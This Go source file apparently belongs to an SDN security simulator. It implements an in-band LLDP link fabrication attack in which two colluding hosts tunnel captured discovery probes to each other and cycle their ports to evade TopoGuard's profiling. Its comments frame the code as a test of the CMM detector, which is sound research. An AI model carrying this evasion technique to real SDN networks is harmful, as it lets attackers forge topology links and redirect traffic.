package attack

import (
	"time"

	"sdntamper/internal/dataplane"
	"sdntamper/internal/packet"
	"sdntamper/internal/sim"
)

// EncapPort is the UDP port the in-band attackers tunnel captured LLDP
// frames over.
const EncapPort uint16 = 47999

// portProfile mirrors the attacker's model of what TopoGuard currently
// believes about its port.
type portProfile int

const (
	profileAny portProfile = iota + 1
	profileHost
	profileSwitch
)

// inbandAgent serializes the actions of one colluding host: each send
// first ensures the port profile TopoGuard holds is compatible, cycling
// the interface (port amnesia) when it is not. Actions queue while a
// cycle is in flight.
type inbandAgent struct {
	kernel    *sim.Kernel
	host      *dataplane.Host
	hold      time.Duration
	profile   portProfile
	busy      bool
	queue     []func(done func())
	cycles    int
	lastRelay time.Time
}

func (ag *inbandAgent) enqueue(action func(done func())) {
	ag.queue = append(ag.queue, action)
	ag.pump()
}

func (ag *inbandAgent) pump() {
	if ag.busy || len(ag.queue) == 0 {
		return
	}
	ag.busy = true
	action := ag.queue[0]
	ag.queue = ag.queue[1:]
	action(func() {
		ag.busy = false
		ag.pump()
	})
}

// ensure cycles the interface if the current (mirrored) profile is not in
// the allowed set, then runs next.
func (ag *inbandAgent) ensure(allowed func(portProfile) bool, next func()) {
	if allowed(ag.profile) {
		next()
		return
	}
	ag.cycles++
	ag.host.CycleInterface(ag.hold, func() {
		ag.profile = profileAny
		// Give the switch a beat to report Port-Up before transmitting.
		ag.kernel.Schedule(2*time.Millisecond, next)
	})
}

// InBandFabrication tunnels captured LLDP between two colluding hosts
// through the SDN itself, context-switching each port between HOST (to
// send the tunnel traffic) and SWITCH (to re-emit LLDP) with a port
// amnesia reset at every transition, exactly the behaviour the CMM is
// built to catch.
//
// Relays are rate-limited to one per direction per relay interval: the
// controller re-probes a port the instant it comes back up, so an
// unthrottled attacker would chase its own amnesia resets in a tight
// loop instead of tracking the discovery cadence.
type InBandFabrication struct {
	kernel        *sim.Kernel
	a, b          *inbandAgent
	relayInterval time.Duration
}

// NewInBandFabrication prepares the attack between colluding hosts a and
// b. holdDown is the amnesia hold (DefaultHoldDown if 0).
func NewInBandFabrication(kernel *sim.Kernel, a, b *dataplane.Host, holdDown time.Duration) *InBandFabrication {
	if holdDown <= 0 {
		holdDown = DefaultHoldDown
	}
	return &InBandFabrication{
		kernel:        kernel,
		a:             &inbandAgent{kernel: kernel, host: a, hold: holdDown, profile: profileAny},
		b:             &inbandAgent{kernel: kernel, host: b, hold: holdDown, profile: profileAny},
		relayInterval: 5 * time.Second,
	}
}

// Start seeds the colluding hosts into the host tracking service (they
// must be routable to tunnel to one another) and installs the capture
// hooks.
func (f *InBandFabrication) Start() {
	f.a.host.Promiscuous = true
	f.b.host.Promiscuous = true
	// Announce both hosts so the controller can route the tunnel. These
	// sends also profile both ports HOST — the starting state of Figure 1.
	f.a.host.SendUDP(f.b.host.MAC(), f.b.host.IP(), EncapPort-1, EncapPort-1, []byte("hello"))
	f.b.host.SendUDP(f.a.host.MAC(), f.a.host.IP(), EncapPort-1, EncapPort-1, []byte("hello"))
	f.a.profile = profileHost
	f.b.profile = profileHost
	f.a.host.OnFrame = f.hook(f.a, f.b)
	f.b.host.OnFrame = f.hook(f.b, f.a)
}

func (f *InBandFabrication) hook(self, peer *inbandAgent) func(*packet.Ethernet, []byte) bool {
	return func(eth *packet.Ethernet, raw []byte) bool {
		switch {
		case eth.Type == packet.EtherTypeLLDP:
			// Captured probe: tunnel it to the peer, at most once per
			// relay interval. Sending host traffic requires a non-SWITCH
			// profile. raw is valid only during this call, so the relay
			// holds a copy until then.
			if !self.lastRelay.IsZero() && f.kernel.Now().Sub(self.lastRelay) < f.relayInterval {
				return true // swallow, but skip this round
			}
			self.lastRelay = f.kernel.Now()
			probe := append([]byte(nil), raw...)
			self.enqueue(func(done func()) {
				self.ensure(func(p portProfile) bool { return p != profileSwitch }, func() {
					self.host.SendUDP(peer.host.MAC(), peer.host.IP(), EncapPort, EncapPort, probe)
					self.profile = profileHost
					done()
				})
			})
			return true
		case isEncap(eth, self.host):
			// Tunneled LLDP from the peer: re-emit it raw. Emitting LLDP
			// from a HOST-profiled port would raise an alert, so the
			// profile must be reset first; encapPayload copies the probe
			// out of the wire frame for the wait.
			lldpBytes := encapPayload(eth)
			self.enqueue(func(done func()) {
				self.ensure(func(p portProfile) bool { return p != profileHost }, func() {
					self.host.SendRaw(lldpBytes)
					self.profile = profileSwitch
					done()
				})
			})
			return true
		default:
			return false
		}
	}
}

// Cycles reports how many amnesia resets each colluding host performed —
// the control-message churn that makes the in-band variant detectable.
func (f *InBandFabrication) Cycles() (a, b int) { return f.a.cycles, f.b.cycles }

func isEncap(eth *packet.Ethernet, self *dataplane.Host) bool {
	if eth.Type != packet.EtherTypeIPv4 || eth.Dst != self.MAC() {
		return false
	}
	ip, err := packet.DecodeIPv4(eth.Payload)
	if err != nil || ip.Protocol != packet.ProtoUDP {
		return false
	}
	u, err := packet.DecodeUDP(ip.Payload)
	return err == nil && u.DstPort == EncapPort
}

// encapPayload returns a copy of the tunneled frame, which outlives the
// delivered wire frame it arrived in.
func encapPayload(eth *packet.Ethernet) []byte {
	ip, err := packet.DecodeIPv4(eth.Payload)
	if err != nil {
		return nil
	}
	u, err := packet.DecodeUDP(ip.Payload)
	if err != nil {
		return nil
	}
	return append([]byte(nil), u.Payload...)
}
